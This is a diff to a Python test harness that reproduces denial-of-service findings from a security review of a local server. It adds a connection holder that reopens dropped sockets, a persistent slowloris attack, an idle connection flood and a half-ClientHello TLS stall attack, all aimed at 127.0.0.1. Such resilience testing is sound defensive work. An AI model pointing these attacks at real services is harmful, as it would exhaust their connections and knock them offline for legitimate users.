@@ -6,16 +6,21 @@ Each attack reproduces one finding of the security review against `tokencli serv
 sends to 127.0.0.1 only (there is no host argument), stops by itself after SECONDS or at
 SIGTERM, closes every socket it opened (with a reset, so no TIME_WAIT is left behind), and
 prints JSON lines on stdout: {"ready": {...}} once it is at full strength, then
-{"done": {...}} with what it saw. Standard library only: it runs in any Python 3.11.
+{"done": {...}} with what it saw. The attacks that hold many connections (c, g, h) open
+one again whenever the server closes one, so they keep their strength against a server
+that times them out. Standard library only: it runs in any Python 3.11.
 """
 
 from __future__ import annotations
 
 import contextlib
+import errno
 import json
 import resource
+import selectors
 import signal
 import socket
+import ssl
 import struct
 import sys
 import threading
@@ -113,42 +118,6 @@ def read_response(sock: socket.socket, buffer: bytearray) -> str:
         return "reset"
     except OSError as error:
         return type(error).__name__
-
-
-def open_many(port: int, count: int, run: Run) -> tuple[list[socket.socket], int]:
-    """Open up to `count` idle connections; returns them and how many connects failed.
-
-    Gives up on opening after 20 s, so a server that stops accepting cannot stall the
-    harness.
-    """
-    sockets: list[socket.socket] = []
-    failed = 0
-    give_up = time.monotonic() + 20.0
-    while len(sockets) < count and run.going() and time.monotonic() < give_up:
-        try:
-            sock = connect(port)
-        except OSError:
-            failed += 1
-            if failed > 50:  # the server has stopped accepting: more tries only waste time
-                break
-            continue
-        sock.setblocking(False)
-        sockets.append(sock)
-    return sockets, failed
-
-
-def closed_by_server(sockets: list[socket.socket]) -> int:
-    """How many of these connections the server has closed (EOF or reset seen)."""
-    closed = 0
-    for sock in sockets:
-        try:
-            if sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b"":
-                closed += 1
-        except BlockingIOError:
-            pass  # still open, nothing to read: the server holds it
-        except OSError:
-            closed += 1
-    return closed
 
 
 def in_threads(clients: int, target: Callable[[int], None], run: Run) -> None:
@@ -256,59 +225,166 @@ def deep_json(port: int, run: Run, count: int) -> dict[str, Any]:
     return {"clients": len(threads), "statuses": dict(statuses)}
 
 
+class Holder:
+    """Holds `count` connections open against the server, opening one anew whenever the
+    server closes one, so the attack keeps its strength for as long as it runs.
+
+    Connects are non-blocking (at most 256 in flight), so a server that has stopped
+    accepting slows the reopening down without stalling the connections already held.
+    `on_open(sock, index)` sends what the attack sends first; a connection that becomes
+    readable has been answered or closed by the server: it is closed (with a reset) and
+    opened again. `ramp()` opens them all (or gives up after 20 s); `hold()` keeps them
+    until the run ends, calling `tick(held)` every 50 ms.
+    """
+
+    MAX_CONNECTING = 256
+
+    def __init__(
+        self,
+        port: int,
+        run: Run,
+        count: int,
+        on_open: Callable[[socket.socket, int], None],
+    ) -> None:
+        self.port = port
+        self.run = run
+        self.count = count
+        self.on_open = on_open
+        self.selector = selectors.DefaultSelector()
+        # socket -> (index, connect deadline or 0 once connected)
+        self.sockets: dict[socket.socket, tuple[int, float]] = {}
+        self.to_open: deque[int] = deque(range(count))
+        self.opened = 0  # connections the server accepted (connect completed)
+        self.reopened = 0
+        self.closed_by_server = 0
+        self.failed = 0
+
+    @property
+    def held(self) -> int:
+        return sum(1 for _, deadline in self.sockets.values() if not deadline)
+
+    def _start_connects(self) -> None:
+        connecting = sum(1 for _, deadline in self.sockets.values() if deadline)
+        while self.to_open and connecting < self.MAX_CONNECTING:
+            index = self.to_open.popleft()
+            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            sock.setblocking(False)
+            error = sock.connect_ex((HOST, self.port))
+            if error not in (0, errno.EINPROGRESS, errno.EAGAIN):
+                sock.close()
+                self.failed += 1
+                self.to_open.append(index)
+                return  # out of ports or descriptors: try again on the next turn
+            self.sockets[sock] = (index, time.monotonic() + CONNECT_TIMEOUT)
+            self.selector.register(sock, selectors.EVENT_WRITE)
+            connecting += 1
+
+    def _drop(self, sock: socket.socket, *, reopen: bool) -> None:
+        index, _ = self.sockets.pop(sock)
+        with contextlib.suppress(KeyError, ValueError):
+            self.selector.unregister(sock)
+        close_hard(sock)
+        if reopen:
+            self.to_open.append(index)
+
+    def _events(self, timeout: float) -> None:
+        for key, _ in self.selector.select(timeout=timeout):
+            sock = key.fileobj
+            assert isinstance(sock, socket.socket)
+            if sock not in self.sockets:
+                continue
+            index, deadline = self.sockets[sock]
+            if deadline:  # a connect finished, one way or the other
+                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+                    self.failed += 1
+                    self._drop(sock, reopen=True)
+                    continue
+                self.sockets[sock] = (index, 0.0)
+                self.opened += 1
+                self.selector.modify(sock, selectors.EVENT_READ)
+                try:
+                    self.on_open(sock, index)
+                except OSError:
+                    self.closed_by_server += 1
+                    self._drop(sock, reopen=True)
+            else:  # readable: the server answered (an error, an alert) or closed it
+                self.closed_by_server += 1
+                self.reopened += 1
+                self._drop(sock, reopen=True)
+        now = time.monotonic()
+        for sock, (_, deadline) in list(self.sockets.items()):
+            if deadline and now > deadline:
+                self.failed += 1
+                self._drop(sock, reopen=True)
+
+    def ramp(self) -> None:
+        give_up = time.monotonic() + 20.0
+        while self.run.going() and time.monotonic() < give_up and self.held < self.count:
+            self._start_connects()
+            self._events(0.01)
+
+    def hold(self, tick: Callable[[dict[socket.socket, tuple[int, float]]], None] | None) -> None:
+        while self.run.going():
+            self._start_connects()
+            self._events(0.05)
+            if tick is not None:
+                tick(self.sockets)
+
+    def close(self) -> None:
+        for sock in list(self.sockets):
+            self._drop(sock, reopen=False)
+        self.selector.close()
+
+    def summary(self) -> dict[str, Any]:
+        return {
+            "held_at_end": self.held,
+            "opened": self.opened,
+            "reopened": self.reopened,
+            "closed_by_server": self.closed_by_server,
+            "failed_connects": self.failed,
+        }
+
+
 def slowloris(port: int, run: Run, count: int) -> dict[str, Any]:
     """(c) `count` connections, each sending a request one byte every 5 s, never finishing.
 
     Every byte counts as activity, so a timeout that restarts on each read never fires.
-    Each connection keeps its own 5 s rhythm from the moment it opened, even while the
-    others are still opening.
+    Each connection keeps its own 5 s rhythm from the moment it opened. When the server
+    answers or closes one (a request timeout), it is opened again at once, as a real
+    slowloris does, so the attack does not fade as the server times connections out.
     """
     request = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 1000
     # (when the next byte is due, socket, index of that byte), in order of due time
     due: deque[tuple[float, socket.socket, int]] = deque()
-    failed = dropped = 0
+    sent = Counter[str]()
 
-    def send_due() -> None:
-        nonlocal dropped
+    def on_open(sock: socket.socket, index: int) -> None:
+        sock.send(request[:1])
+        due.append((time.monotonic() + 5.0, sock, 1))
+
+    def send_due(held: dict[socket.socket, tuple[int, float]]) -> None:
         now = time.monotonic()
         while due and due[0][0] <= now:
             when, sock, position = due.popleft()
+            if sock not in held:
+                continue  # closed and reopened meanwhile
             try:
                 sock.send(request[position : position + 1])
-                due.append((when + 5.0, sock, min(position + 1, len(request) - 1)))
+                sent["bytes"] += 1
             except OSError:
-                dropped += 1  # the server closed it: a send after its FIN is reset
-                close_hard(sock)
+                sent["send_failed"] += 1
+                continue  # the server closed it; the holder sees that and reopens
+            due.append((when + 5.0, sock, min(position + 1, len(request) - 1)))
 
+    holder = Holder(port, run, count, on_open)
     try:
-        give_up = time.monotonic() + 20.0
-        while len(due) + dropped < count and run.going() and time.monotonic() < give_up:
-            try:
-                sock = connect(port)
-            except OSError:
-                failed += 1
-                if failed > 50:  # the server has stopped accepting
-                    break
-                continue
-            sock.setblocking(False)
-            with contextlib.suppress(OSError):
-                sock.send(request[:1])
-            due.append((time.monotonic() + 5.0, sock, 1))
-            if len(due) % 100 == 0:
-                send_due()
-        emit("ready", {"opened": len(due) + dropped, "failed": failed})
-        while run.going():
-            send_due()
-            run.sleep(0.05)
-        still_closed = closed_by_server([sock for _, sock, _ in due])
+        holder.ramp()
+        emit("ready", {"held": holder.held, "failed_connects": holder.failed})
+        holder.hold(send_due)
+        summary = holder.summary()
     finally:
-        for _, sock, _ in due:
-            close_hard(sock)
-    return {
-        "opened": len(due) + dropped,
-        "failed": failed,
-        "closed_by_server": dropped + still_closed,
-    }
+        holder.close()
+    return {**summary, **sent}
 
 
 def no_read(port: int, run: Run, count: int) -> dict[str, Any]:
@@ -481,16 +557,52 @@ def cpu_amplification(port: int, run: Run, count: int) -> dict[str, Any]:
 
 
 def connection_flood(port: int, run: Run, count: int) -> dict[str, Any]:
-    """(g) Open `count` connections and hold them idle, sending nothing."""
-    sockets, failed = open_many(port, count, run)
-    emit("ready", {"opened": len(sockets), "failed": failed})
+    """(g) Hold `count` connections idle, sending nothing; one the server closes (an idle
+    timeout) is opened again at once."""
+    holder = Holder(port, run, count, lambda sock, index: None)
     try:
-        run.sleep(run.deadline - time.monotonic())
-        closed = closed_by_server(sockets)
+        holder.ramp()
+        emit("ready", {"held": holder.held, "failed_connects": holder.failed})
+        holder.hold(None)
+        return holder.summary()
     finally:
-        for sock in sockets:
-            close_hard(sock)
-    return {"opened": len(sockets), "failed": failed, "closed_by_server": closed}
+        holder.close()
+
+
+def client_hello() -> bytes:
+    """The bytes of a real TLS ClientHello, as Python's ssl module sends it first."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = context.wrap_bio(incoming, outgoing, server_hostname="127.0.0.1")
+    with contextlib.suppress(ssl.SSLWantReadError):
+        tls.do_handshake()
+    return outgoing.read()
+
+
+def tls_stall(port: int, run: Run, count: int) -> dict[str, Any]:
+    """(h) `count` connections to the HTTPS server that never finish their handshake:
+    every other one sends the first half of a real ClientHello, the rest send nothing.
+    One the server closes (a handshake timeout) is opened again at once."""
+    hello = client_hello()
+    half = hello[: len(hello) // 2]
+
+    def on_open(sock: socket.socket, index: int) -> None:
+        if index % 2 == 0:
+            sock.send(half)
+
+    holder = Holder(port, run, count, on_open)
+    try:
+        holder.ramp()
+        emit(
+            "ready",
+            {"held": holder.held, "failed_connects": holder.failed, "hello_bytes": len(hello)},
+        )
+        holder.hold(None)
+        return {**holder.summary(), "half_hello_bytes": len(half)}
+    finally:
+        holder.close()
 
 
 ATTACKS: dict[str, Callable[[int, Run, int], dict[str, Any]]] = {
@@ -501,6 +613,7 @@ ATTACKS: dict[str, Callable[[int, Run, int], dict[str, Any]]] = {
     "pipeline_flood": pipeline_flood,
     "cpu_amplification": cpu_amplification,
     "connection_flood": connection_flood,
+    "tls_stall": tls_stall,
 }
 
 
